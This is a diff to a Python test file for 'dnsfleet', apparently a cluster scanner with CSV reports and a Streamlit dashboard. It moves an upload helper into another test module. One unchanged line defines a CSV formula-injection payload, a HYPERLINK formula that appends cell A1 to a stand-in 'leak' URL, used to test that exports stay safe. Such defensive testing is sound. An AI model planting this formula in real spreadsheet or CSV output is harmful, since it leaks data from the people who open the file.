@@ -22,6 +22,7 @@ from dnsfleet.report import csv_reports
 from dnsfleet.snapshot import save
 from dnsfleet.textsafe import FORMULA_START, csv_bytes
 from tests.builders import cluster, node, pod, snapshot
+from tests.test_dashboard import uploaded
 
 F = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
 
@@ -181,35 +182,9 @@ def test_scan_fail_on_with_every_cluster_failing(tmp_path: Path, capsys: pytest.
 
 # -- the dashboard -------------------------------------------------------------------------------------
 
-APP = str(Path(__file__).resolve().parents[1] / "dashboard" / "app.py")
-
-
-@pytest.fixture
-def clean_app(monkeypatch: pytest.MonkeyPatch) -> Any:
-    import streamlit as st
-
-    for k in ("DNSFLEET_ALLOW_WRITES", "DNSFLEET_KUBECONFIG", "KUBECONFIG", "DNSFLEET_SNAPSHOT"):
-        monkeypatch.delenv(k, raising=False)
-    st.cache_data.clear()
-    st.cache_resource.clear()
-    yield monkeypatch
-    st.cache_data.clear()
-    st.cache_resource.clear()
-
-
-def _upload(name: str, data: bytes) -> Any:
-    from streamlit.testing.v1 import AppTest
-
-    at = AppTest.from_file(APP, default_timeout=120)
-    at.run()
-    at.sidebar.radio[0].set_value("snapshot").run()
-    at.sidebar.file_uploader[0].set_value((name, data, "application/octet-stream")).run()
-    assert not at.exception, [e.value for e in at.exception]
-    return at
-
 
 def test_reports_page_with_every_cluster_failed(clean_app: Any, tmp_path: Path) -> None:
-    at = _upload("failed.json", _all_failed(tmp_path).read_bytes())
+    at = uploaded("failed.json", _all_failed(tmp_path).read_bytes())
     at.switch_page("../pages/reports.py").run()
     assert not at.exception, [e.value for e in at.exception]
     assert len(at.get("download_button")) == 5  # four CSVs and the snapshot
@@ -413,7 +388,7 @@ def test_cli_and_dashboard_refuse_a_wrong_type_in_one_line(tmp_path: Path, clean
     )
     from dashboard.ui import plain
 
-    at = _upload("bad.json", bad)
+    at = uploaded("bad.json", bad)
     (err,) = [e.value for e in at.error]
     line = "bad.json: clusters[0].nodes[0].kernel_version: expected a string or null, got an integer"
     assert err == f"Snapshot not loaded: {plain(line)}"  # shown as that text, not markdown
@@ -753,7 +728,7 @@ def test_dashboard_cluster_page_shows_untrusted_names_as_text(clean_app: Any) ->
         nodes=None,
         pods=None,
     )
-    at = _upload("md.json", dumps(snapshot(c, cluster("fine"))))
+    at = uploaded("md.json", dumps(snapshot(c, cluster("fine"))))
     at.query_params["cluster"] = MD_NAME
     at.switch_page("../pages/cluster.py").run()
     assert not at.exception, [e.value for e in at.exception]
